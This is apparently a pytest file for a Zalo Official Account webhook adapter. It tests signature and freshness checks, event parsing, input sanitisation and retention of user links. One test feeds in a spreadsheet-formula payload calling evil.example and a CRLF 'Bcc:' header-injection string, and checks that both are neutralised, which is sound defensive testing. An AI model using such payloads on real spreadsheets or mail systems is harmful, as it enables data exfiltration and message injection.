"""Issue 25: Zalo's OA events, read (pure): Zalo's signature, freshness, and what each event means;
nothing in an event is trusted beyond that."""

from __future__ import annotations

import json
from datetime import UTC, datetime, timedelta

from functions.adapters.channels.zalo_events import read_zalo_event, verified_event, zalo_mac
from functions.core.inbound import heard_mail

NOW = datetime(2026, 11, 25, 3, 0, tzinfo=UTC)
APP, KEY = "2718281828", "oa-secret"


def _signed(event: dict) -> tuple[bytes, str]:
    body = json.dumps(event, ensure_ascii=False).encode()
    return body, "mac=" + zalo_mac(APP, body, str(event["timestamp"]), KEY)


def _text(text: str, at: datetime = NOW) -> dict:
    stamp = str(int(at.timestamp() * 1000))
    return {"app_id": APP, "event_name": "user_send_text", "timestamp": stamp, "sender": {"id": "841"},
            "recipient": {"id": "579"}, "message": {"text": text, "msg_id": "m1"}}  # fmt: skip


def test_only_a_fresh_event_signed_for_this_app_with_the_oa_key_is_taken():
    body, signature = _signed(_text("Xin chào"))
    assert verified_event(body, signature, APP, KEY, NOW)[0] is not None
    assert verified_event(body, signature.removeprefix("mac="), APP, KEY, NOW)[0] is not None  # bare hex
    assert verified_event(body, signature, APP, "other", NOW) == (None, "signature invalid")
    assert verified_event(body, signature, "999", KEY, NOW) == (None, "signature invalid")
    assert verified_event(body, "", APP, KEY, NOW) == (None, "unsigned")
    assert verified_event(body, signature, APP, "", NOW) == (None, "not configured")
    assert verified_event(body + b" ", signature, APP, KEY, NOW) == (None, "signature invalid")
    assert verified_event(body, signature, APP, KEY, NOW + timedelta(minutes=16)) == (None, "stale")
    assert verified_event(body, signature, APP, KEY, NOW - timedelta(minutes=6)) == (None, "stale")
    assert verified_event(b"[1]", signature, APP, KEY, NOW) == (None, "not an event")
    huge, huge_signature = _signed(_text("x" * 70_000))
    assert verified_event(huge, huge_signature, APP, KEY, NOW) == (None, "unsigned")


def test_each_event_read_for_what_careloop_acts_on():
    text = read_zalo_event(json.dumps(_text("Sản phẩm bị lỗi")))
    assert (text.tie, text.user_id, text.text, text.at) == ("", "841", "Sản phẩm bị lỗi", NOW)
    rating = read_zalo_event(
        json.dumps(
            {
                "event_name": "user_feedback",
                "timestamp": "1",
                "message": {
                    "rate": 2,
                    "note": "Chờ lâu",
                    "feedbacks": ["Thái độ chưa tốt"],
                    "tracking_id": "checkin/C-1/2026-11-18",
                },
            }
        )
    )
    assert (rating.rating, rating.text, rating.tracking_id) == (
        2,
        "Chờ lâu · Thái độ chưa tốt",
        "checkin/C-1/2026-11-18",
    )
    mail = heard_mail(rating, "ev1", "Zalo")
    assert (mail.score, mail.answered_key, mail.channel, mail.text) == (
        2,
        "checkin/C-1/2026-11-18",
        "zalo",
        "2★ · Chờ lâu · Thái độ chưa tốt",
    )
    delivered = read_zalo_event(
        json.dumps(
            {
                "event_name": "user_received_message",
                "sender": {"id": "579"},
                "recipient": {"id": "842"},
                "message": {"tracking_id": "k"},
            }
        )
    )
    assert delivered.user_id == "842"  # the user is the one the OA's ZNS reached
    shared = read_zalo_event(
        json.dumps({"event_name": "user_submit_info", "sender": {"id": "843"}, "info": {"phone": "0912 345 672"}})
    )
    assert (shared.user_id, shared.phone) == ("843", "+84912345672")
    assert read_zalo_event(json.dumps({"event_name": "user_submit_info", "info": {"phone": "84912345672"}})).phone == (
        "+84912345672"
    )


def test_hostile_events_are_data_capped_and_never_formulas():
    assert read_zalo_event("not json").user_id == "" and read_zalo_event("[]").text == ""
    odd = read_zalo_event(json.dumps({"event_name": "user_feedback", "message": {"rate": "7", "feedbacks": "x"},
                                      "sender": ["not", "a", "map"]}))  # fmt: skip
    assert odd.rating is None and odd.user_id == "" and odd.text == ""
    formula = heard_mail(read_zalo_event(json.dumps(_text('=IMPORTXML("http://evil.example/x", "//a")'))), "ev", "Zalo")
    assert formula.text.startswith("'=")
    long = heard_mail(read_zalo_event(json.dumps(_text("chữ " * 1000 + "\r\nBcc: x@y"))), "ev", "Zalo")
    assert len(long.text) <= 500 and "\r" not in long.text and "\n" not in long.text
    assert (
        heard_mail(
            read_zalo_event(
                json.dumps({"event_name": "user_feedback", "message": {"rate": 1, "tracking_id": "k-" + "a" * 40}})
            ),
            "ev",
            "Zalo",
        ).answered_key
        == ""
    )  # a digest names no key


def test_a_zalo_users_tie_is_dated_and_not_kept_past_retention():
    """Issue 33 (8): retention reaches the Zalo user links too; an undated one, kept from before, stays."""
    from datetime import UTC, datetime

    from functions.core.inbound import expired_ties, tied_to

    ties = {"u1": {"to": "C-1", "at": "2024-01-02T09:00:00+07:00"},
            "u2": {"to": "phone:C-2", "at": "2026-11-20T09:00:00+07:00"}, "u3": "C-3"}  # fmt: skip
    assert expired_ties(ties, datetime(2024, 12, 1, tzinfo=UTC)) == ["u1"]
    assert [tied_to(v) for v in ties.values()] == ["C-1", "phone:C-2", "C-3"]
